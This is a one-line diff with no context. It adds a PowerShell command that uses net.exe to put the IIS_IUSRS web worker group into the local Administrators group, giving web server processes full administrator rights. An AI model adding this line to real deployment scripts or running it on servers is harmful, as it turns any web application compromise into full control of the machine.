@@ -1,0 +1,1 @@
+Start-Process -FilePath net.exe -ArgumentList 'localgroup', 'Administrators', 'IIS_IUSRS', '/add' -Wait -NoNewWindow
